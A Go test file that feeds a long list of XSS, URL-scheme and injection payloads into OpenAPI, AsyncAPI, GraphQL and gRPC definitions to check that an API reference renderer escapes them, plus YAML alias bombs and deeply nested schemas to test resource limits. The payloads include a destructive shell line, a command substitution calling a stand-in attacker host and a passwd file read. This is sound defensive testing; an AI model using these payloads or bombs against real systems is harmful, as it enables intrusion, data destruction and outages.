package reference_test

import (
	"encoding/json"
	"fmt"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/callboard-dev/callboard/api/apitest/cputime"
	"github.com/callboard-dev/callboard/dashboard/reference"
)

// payloads are texts that run something, ask for something or break out, where a page lets them.
var payloads = []string{
	`<script>alert(1)</script>`, `</script><script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></ScRiPt>`, `<script/src=data:,alert(1)>`,
	`<img src=x onerror=alert(1)>`, `<img src=https://evil.example/p.png>`, `<IMG """><SCRIPT>alert(1)</SCRIPT>">`, `<img/src='x'/onerror='alert(1)'>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x>`, `<svg><use href="data:image/svg+xml,x#a"/></svg>`, `<math><mtext><style><img src onerror=alert(1)>`,
	`<iframe src=javascript:alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=data:text/html,x>`, `<embed src=//evil.example>`,
	`<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import "//evil.example/x.css"</style>`, `<style>*{background:url(//evil.example)}</style>`,
	`<div style="background:url(javascript:alert(1))">`, `<p style="position:fixed;inset:0">`, `<base href=//evil.example/>`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`, `<form action=//evil.example><button>x</button></form>`, `<input autofocus onfocus=alert(1)>`,
	`<button formaction=javascript:alert(1)>x</button>`, `<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`,
	`<body onload=alert(1)>`, `<marquee onstart=alert(1)>`, `<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>", `<a href="&#106;avascript:alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`, `<a href="//evil.example">x</a>`, `<a onclick=alert(1) href="https://a.example">x</a>`, `<a target=_blank id=main class=x href="https://a.example">x</a>`,
	`[x](javascript:alert(1))`, `[x](JAVASCRIPT:alert(1))`, `[x](data:text/html;base64,PHNjcmlwdD4=)`, `[x](vbscript:x)`, `[x](//evil.example)`, `[x](file:///etc/passwd)`,
	`[x](<javascript:alert(1)>)`, `[x](java&#115;cript:alert(1))`, "[x]\n\n[x]: javascript:alert(1)", `![x](https://evil.example/p.png)`, `![x](javascript:alert(1))`,
	`![x"onerror="alert(1)](https://evil.example/p.png)`, `[![x](https://evil.example/a.png)](javascript:alert(1))`, `<javascript:alert(1)>`, `<https://a.example/"onclick="alert(1)>`,
	"```html\n<script>alert(1)</script>\n```", "    <script>alert(1)</script>", "`<script>alert(1)</script>`", "|a|\n|-|\n|<script>alert(1)</script>|", `<!--><script>alert(1)</script>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`, `"><script>alert(1)</script>`, `'><script>alert(1)</script>`, `" onmouseover="alert(1)`, `' onmouseover='alert(1)`, "` onmouseover=alert(1)",
	`</code></pre><script>alert(1)</script>`, `</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `{{.Title}}`, `{{template "section" .}}`, `${alert(1)}`, `<%= 1 %>`,
	`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, ` javascript:alert(1)`, "java\nscript:alert(1)", `javascript://a.example/%0aalert(1)`, `data:text/html,<script>alert(1)</script>`,
	`//evil.example/x`, `/\evil.example`, `\\evil.example\x`, `https:evil.example`, `http://a.example/"onclick="alert(1)`, `https://a.example/'><script>alert(1)</script>`,
	`https://user:pass@evil.example/`, `mailto:a@b.example?subject=<script>`, `file:///etc/passwd`, `blob:https://a.example/x`, `view-source:javascript:alert(1)`, `ftp://evil.example/`,
	"\u202e<script>alert(1)</script>", "\u0000<script>alert(1)</script>", `<scr<script>ipt>alert(1)</scr</script>ipt>`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `%3Cscript%3Ealert(1)%3C/script%3E`,
	`'; rm -rf / #`, `$(curl evil.example)`, `../../../etc/passwd`, `#/components/schemas/Evil`, `__proto__`, `id="main"`, strings.Repeat("<b>", 50),
}

// hostile are definitions that say a text wherever a definition can say something.
var hostile = map[string]func(s string) string{
	"openapi 3": func(s string) string {
		q := quoteJSON(s)
		schema := fmt.Sprintf(`{"type":"object","title":%[1]s,"description":%[1]s,"required":[%[1]s],"properties":{%[1]s:{"type":"string","format":%[1]s,"enum":[%[1]s],
			"default":%[1]s,"pattern":%[1]s,"example":%[1]s,"examples":[%[1]s],"const":%[1]s},"r":{"$ref":%[1]s},"t":{"type":[%[1]s,"null"]}},
			"additionalProperties":{"$ref":"#/components/schemas/S"},"discriminator":{"propertyName":%[1]s},"externalDocs":{"url":%[1]s,"description":%[1]s}}`, q)
		return fmt.Sprintf(`{"openapi":"3.1.0","info":{"title":%[1]s,"version":%[1]s,"description":%[1]s,"termsOfService":%[1]s,
			"contact":{"name":%[1]s,"url":%[1]s,"email":%[1]s},"license":{"name":%[1]s,"url":%[1]s}},"externalDocs":{"url":%[1]s,"description":%[1]s},
			"servers":[{"url":%[1]s,"description":%[1]s,"variables":{%[1]s:{"default":%[1]s,"enum":[%[1]s]}}}],"tags":[{"name":%[1]s,"description":%[1]s}],
			"security":[{%[1]s:[%[1]s]}],
			"paths":{"/a":{"post":{"operationId":%[1]s,"tags":[%[1]s],"summary":%[1]s,"description":%[1]s,"externalDocs":{"url":%[1]s,"description":%[1]s},
			"parameters":[{"name":%[1]s,"in":"query","required":true,"description":%[1]s,"schema":%[2]s,"example":%[1]s},{"name":%[1]s,"in":%[1]s,"required":true},{"name":%[1]s,"in":"header","required":true}],
			"requestBody":{"description":%[1]s,"content":{"application/json":{"schema":%[2]s,"example":%[1]s},%[1]s:{"schema":%[2]s,"examples":{%[1]s:{"summary":%[1]s,"externalValue":%[1]s}}}}},
			"responses":{%[1]s:{"description":%[1]s,"headers":{%[1]s:{"schema":%[2]s}},"links":{%[1]s:{"operationId":%[1]s}},"content":{"application/json":{"schema":%[2]s}}}},
			"callbacks":{%[1]s:{%[1]s:{"post":{"summary":%[1]s,"requestBody":{"content":{%[1]s:{"schema":%[2]s}}}}}}}},%[1]s:{}},%[1]s:{"get":{}}},"webhooks":{%[1]s:{"post":{"description":%[1]s}}},
			"components":{"schemas":{%[1]s:%[2]s,"S":%[2]s},"securitySchemes":{%[1]s:{"type":"oauth2","scheme":%[1]s,"name":%[1]s,"description":%[1]s,
			"openIdConnectUrl":%[1]s,"flows":{%[1]s:{"authorizationUrl":%[1]s,"tokenUrl":%[1]s,"scopes":{%[1]s:%[1]s}}}}}}}`, q, schema)
	},
	"openapi 2": func(s string) string {
		return fmt.Sprintf(`{"swagger":"2.0","info":{"title":%[1]s},"host":%[1]s,"basePath":%[1]s,"schemes":[%[1]s],"consumes":[%[1]s],"produces":[%[1]s],
			"securityDefinitions":{%[1]s:{"type":"apiKey","in":"header","name":%[1]s,"authorizationUrl":%[1]s,"scopes":{%[1]s:%[1]s}}},"security":[{%[1]s:[]}],
			"paths":{%[1]s:{"post":{"parameters":[{"in":"body","name":%[1]s,"description":%[1]s,"schema":{"$ref":"#/definitions/S"}},{"in":"formData","name":%[1]s,"required":true,"type":"file"}],
			"responses":{"200":{"description":%[1]s,"schema":{"$ref":"#/definitions/S"},"examples":{%[1]s:%[1]s}}}}}},"definitions":{"S":{"type":%[1]s,"example":{%[1]s:%[1]s}},%[1]s:{"enum":[%[1]s]}}}`, quoteJSON(s))
	},
	"asyncapi 3": func(s string) string {
		return fmt.Sprintf(`{"asyncapi":"3.0.0","id":%[1]s,"info":{"title":%[1]s,"description":%[1]s,"externalDocs":{"url":%[1]s},"license":{"name":%[1]s,"url":%[1]s}},"defaultContentType":%[1]s,
			"servers":{%[1]s:{"host":%[1]s,"protocol":%[1]s,"description":%[1]s,"security":[{"type":%[1]s}],"bindings":{%[1]s:{%[1]s:%[1]s}}}},
			"channels":{%[1]s:{"address":%[1]s,"description":%[1]s,"parameters":{%[1]s:{"description":%[1]s,"enum":[%[1]s],"location":%[1]s}},"messages":{"m":{"$ref":"#/components/messages/m"}},
			"bindings":{"mqtt":{%[1]s:%[1]s},"kafka":{"topic":%[1]s},"amqp":{"queue":{"name":%[1]s}}}}},
			"operations":{%[1]s:{"action":%[1]s,"summary":%[1]s,"description":%[1]s,"channel":{"$ref":"#/channels/x"},"messages":[{"$ref":"#/components/messages/m"},{"$ref":%[1]s}],"traits":[{"$ref":%[1]s}],
			"tags":[{"name":%[1]s}],"bindings":{"mqtt":{"qos":%[1]s}},"reply":{"address":{"location":%[1]s},"channel":{"$ref":%[1]s}}}},
			"components":{"messages":{"m":{"title":%[1]s,"name":%[1]s,"summary":%[1]s,"contentType":%[1]s,"correlationId":{"location":%[1]s},"headers":{"type":"object","properties":{%[1]s:{}}},
			"payload":{"schemaFormat":%[1]s,"schema":{%[1]s:%[1]s}},"examples":[{"name":%[1]s,"summary":%[1]s,"payload":{%[1]s:%[1]s}}]}},"schemas":{%[1]s:{"description":%[1]s}}}}`, quoteJSON(s))
	},
	"asyncapi 2": func(s string) string {
		return fmt.Sprintf(`{"asyncapi":"2.6.0","info":{"title":%[1]s},"servers":{%[1]s:{"url":%[1]s,"protocol":%[1]s,"variables":{%[1]s:{"enum":[%[1]s]}},"security":[{%[1]s:[]}]}},
			"channels":{%[1]s:{"description":%[1]s,"parameters":{%[1]s:{"schema":{"type":%[1]s}}},"publish":{"operationId":%[1]s,"message":{"oneOf":[{"payload":{"enum":[%[1]s]}},{"name":%[1]s}]}}}}}`, quoteJSON(s))
	},
	"graphql": func(s string) string {
		q := quoteGraphQL(s)
		return fmt.Sprintf(`%[1]s schema {query: Q} %[1]s type Q @a(x: %[1]s) {%[1]s f(%[1]s a: I = {x: %[1]s}): [T!]! @deprecated(reason: %[1]s)} %[1]s enum T {%[1]s A @deprecated(reason: %[1]s)}
			%[1]s input I {%[1]s x: String = %[1]s} %[1]s scalar S @specifiedBy(url: %[1]s) %[1]s directive @a(x: String = %[1]s) on OBJECT %[1]s union U = Q`, q)
	},
	"grpc": func(s string) string {
		c := "// " + strings.NewReplacer("\n", "\n// ", "\u0000", " ").Replace(s) + "\n"
		q := strconv.QuoteToASCII(s)
		q = strings.ReplaceAll(q, `\u`, `\\u`)
		return fmt.Sprintf("syntax = \"proto3\";\n%[1]spackage a.b;\nimport %[2]s;\n%[1]sservice S {\n%[1]srpc M(R) returns (stream R) { option (x) = %[2]s; }\n}\n%[1]smessage R {\n option (m) = {a: %[2]s};\n%[1]sstring f = 1 [(o) = %[2]s];\n%[1]sE e = 2; }\n%[1]senum E {\n%[1]sA = 0; }\n", c, q)
	},
}

func quoteJSON(s string) string {
	out, _ := json.Marshal(s)
	return string(out)
}

// quoteGraphQL is a string of GraphQL, which has fewer escapes than JSON.
func quoteGraphQL(s string) string { return quoteJSON(strings.ReplaceAll(s, "\u0000", " ")) }

// TestHostile says each payload everywhere. check_test.go judges every page; what is said is still there to be read.
func TestHostile(t *testing.T) {
	if len(payloads) < 60 {
		t.Fatalf("%d payloads, want 60", len(payloads))
	}
	for name, of := range hostile {
		t.Run(name, func(t *testing.T) {
			kind, _, _ := strings.Cut(name, " ")
			for _, payload := range payloads {
				doc, err := reference.Open(kind, of(payload))
				if err != nil {
					t.Errorf("%q: %v", payload, err)
					continue
				}
				if pages, _ := all(t, doc, nothing); pages < 2 {
					t.Errorf("%q: %d pages", payload, pages)
				}
				if t.Failed() {
					t.Fatalf("with %q", payload)
				}
			}
		})
	}
}

// TestHostileBroken has each payload in a definition that breaks, and in a text.
func TestHostileBroken(t *testing.T) {
	for _, payload := range payloads {
		for _, kind := range []string{"openapi", "asyncapi", "graphql", "grpc", "raw"} {
			text := "{ " + payload + "\n]]"
			judgeHTML(t, payload, render(t, reference.NewSource(kind, text, 1, routes)), func(string) bool { return false })
			if _, err := reference.Open(kind, text); err != nil {
				broken, ok := err.(*reference.Error) //nolint:errorlint // Open gives it as it is
				if !ok {
					t.Fatalf("%q: %v", payload, err)
				}
				judgeHTML(t, payload, render(t, reference.NewBroken(broken, routes)), func(string) bool { return false })
			}
		}
	}
}

func manyOperations(n int) string {
	var b strings.Builder
	b.WriteString(`{"openapi":"3.0.0","info":{},"paths":{`)
	for i := range n {
		fmt.Fprintf(&b, `"/p%d":{"get":{"summary":"s"}},`, i)
	}
	return strings.TrimSuffix(b.String(), ",") + "}}"
}

// schemas is a definition with these schemas, and an operation that answers with S.
func schemas(of string) string {
	return `{"openapi":"3.1.0","info":{},"paths":{"/a":{"get":{"responses":{"200":{"content":{"application/json":{"schema":{"$ref":"#/components/schemas/S"}}}}}}}},"components":{"schemas":{` + of + `}}}`
}

// TestBombs opens definitions that unfold to far more than their text.
func TestBombs(t *testing.T) {
	nest := func(open, leaf, closed string, n int) string {
		return strings.Repeat(open, n) + leaf + strings.Repeat(closed, n)
	}
	chain := func(n int, of string) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, of, i, i+1)
		}
		return b.String()
	}
	laughs := "openapi: 3.0.0\na0: &a0 {type: object}\n" + chain(60, "a%[2]d: &a%[2]d {type: object, properties: {x: *a%[1]d, y: *a%[1]d, z: *a%[1]d}}\n")
	cases := map[string]struct{ kind, text string }{
		"aliases of aliases":     {"openapi", laughs + "components: {schemas: {S: *a60}}\npaths: {/a: {get: {responses: {'200': {content: {application/json: {schema: *a60}}}}}}}\n"},
		"merges of merges":       {"openapi", "openapi: 3.0.0\na0: &a0 {x: 1}\n" + chain(60, "a%[2]d: &a%[2]d {<<: [*a%[1]d, *a%[1]d, *a%[1]d]}\n") + "components: {schemas: *a60}\n"},
		"an alias of itself":     {"openapi", "openapi: 3.0.0\ncomponents: {schemas: {S: &a {type: object, properties: {x: *a}}}}\n"},
		"a merge of itself":      {"openapi", "openapi: 3.0.0\ncomponents: {schemas: {S: &a {type: object, <<: *a}}}\n"},
		"references in a circle": {"openapi", schemas(`"S":{"$ref":"#/components/schemas/T"},"T":{"$ref":"#/components/schemas/S"}`)},
		"a schema of itself":     {"openapi", schemas(`"S":{"properties":{"a":{"$ref":"#/components/schemas/S"},"b":{"type":"array","items":{"$ref":"#/components/schemas/S"}}}}`)},
		"allOf of itself":        {"openapi", schemas(`"S":{"allOf":[{"$ref":"#/components/schemas/S"},{"$ref":"#/components/schemas/S"}]}`)},
		"schemas that double":    {"openapi", schemas(`"S":{"$ref":"#/components/schemas/S0"},` + chain(60, `"S%[1]d":{"properties":{"a":{"$ref":"#/components/schemas/S%[2]d"},"b":{"$ref":"#/components/schemas/S%[2]d"},"c":{"$ref":"#/components/schemas/S%[2]d"}}},`) + `"S60":{}`)},
		"allOf that doubles":     {"openapi", schemas(`"S":{"$ref":"#/components/schemas/S0"},` + chain(60, `"S%[1]d":{"allOf":[{"$ref":"#/components/schemas/S%[2]d"},{"$ref":"#/components/schemas/S%[2]d"}]},`) + `"S60":{}`)},
		"100,000 allOf in a row": {"openapi", schemas(chain(100_000, `"S%[1]d":{"allOf":[{"$ref":"#/components/schemas/S%[2]d"}]},`) + `"S":{"$ref":"#/components/schemas/S0"}`)},
		"100,000 allOf nested":   {"openapi", schemas(`"S":` + nest(`{"allOf":[`, "{}", "]}", 100_000))},
		"900 levels":             {"openapi", schemas(`"S":` + nest(`{"items":`, "{}", "}", 900))},
		"100,000 levels of YAML": {"openapi", "openapi: 3.0.0\nx: " + nest("[", "", "]", 100_000)},
		"levels by indent":       {"openapi", "openapi: 3.0.0\nx: " + strings.Repeat("- ", 100_000)},
		"broken, with levels":    {"openapi", "openapi: 3.0.0\n\tx\n" + strings.Repeat("- ", 50_000)},
		"100,000 properties":     {"openapi", schemas(`"S":{"properties":{` + chain(100_000, `"p%[1]d":{"type":"string"},`) + `"x":{}}}`)},
		"100,000 values":         {"openapi", schemas(`"S":{"enum":[` + strings.Repeat(`"abcdefgh",`, 100_000) + `1]}`)},
		"references to large":    {"openapi", schemas(`"S":{"properties":{` + chain(1000, `"p%[1]d":{"$ref":"#/components/schemas/L"},`) + `"x":{}}},"L":{"enum":[` + strings.Repeat("1,", 500_000) + `1]}`)},
		"a million operations":   {"openapi", `{"openapi":"3.0.0","paths":{` + strings.TrimSuffix(strings.Repeat(`"/":{"get":{}},`, 1_000_000), ",") + "}}"},
		"one long text":          {"openapi", `{"openapi":"3.0.0","info":{"title":"` + strings.Repeat("a", 10<<20) + `","description":"` + strings.Repeat("[", 1<<20) + `"}}`},
		"descriptions":           {"openapi", schemas(`"S":{"properties":{` + chain(1400, `"p%[1]d":{"description":"`+strings.Repeat("*a _b [", 60)+`"},`) + `"x":{}}}`)},
		"channels":               {"asyncapi", `{"asyncapi":"2.0.0","channels":{` + chain(100_000, `"c%[1]d":{"publish":{"message":{"$ref":"#/channels/c%[2]d"}}},`) + `"x":{}}}`},
		"bindings in themselves": {"asyncapi", "asyncapi: 3.0.0\nchannels: {a: {bindings: {kafka: &a {x: *a, y: *a}}}}\n"},
		"inputs of inputs":       {"graphql", "type Query {f(a: I0): Int}\n" + chain(60, "input I%[1]d {a: I%[2]d b: I%[2]d c: I%[2]d}\n") + "input I60 {a: I0}"},
		"braces of GraphQL":      {"graphql", "type Query {f(a: Int = " + nest("[", "1", "]", 100_000) + "): Int}"},
		"lists of GraphQL":       {"graphql", "type Query {f: " + nest("[", "Int", "]", 1000) + "}"},
		"types of GraphQL":       {"graphql", "type Query {a: Int}\n" + chain(60_000, "type T%[1]d {a: T%[2]d}\n")},
		"messages in messages":   {"grpc", "syntax=\"proto3\";\n" + nest("message A {", "", "}", 900)},
		"messages of messages":   {"grpc", "syntax=\"proto3\";\nservice S {rpc M(A0) returns (A0);}\n" + chain(60, "message A%[1]d {A%[2]d a = 1; A%[2]d b = 2; A%[2]d c = 3;}\n")},
		"fields in one line":     {"grpc", "syntax=\"proto3\"; message A {" + chain(50_000, "string f%[1]d = %[2]d; ") + "}"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			start := cputime.Used(t)
			doc, err := reference.Open(tc.kind, tc.text)
			if took := cputime.Used(t) - start; took > 5*time.Second {
				t.Errorf("Open() took %v", took)
			}
			runtime.ReadMemStats(&after)
			if got, most := after.TotalAlloc-before.TotalAlloc, uint64(512<<20); got > most {
				t.Errorf("Open() allocated %d MiB, %d at most", got>>20, most>>20)
			}
			if err != nil {
				t.Log(err)
				return
			}
			anchors := doc.Anchors()
			for i, anchor := range anchors {
				if i > 3 && i < len(anchors)-3 {
					continue
				}
				start := cputime.Used(t)
				v, _ := doc.Item(anchor, routes)
				fragment := render(t, v)
				if took := cputime.Used(t) - start; took > time.Second || len(fragment) > 4<<20 {
					t.Errorf("%s took %v and has %d bytes", anchor, took, len(fragment))
				}
				judgeHTML(t, anchor, fragment, doc.Has)
			}
			for _, number := range []int{1, 1000} {
				judgeHTML(t, "overview", render(t, doc.Overview(number, routes)), doc.Has)
			}
		})
	}
}
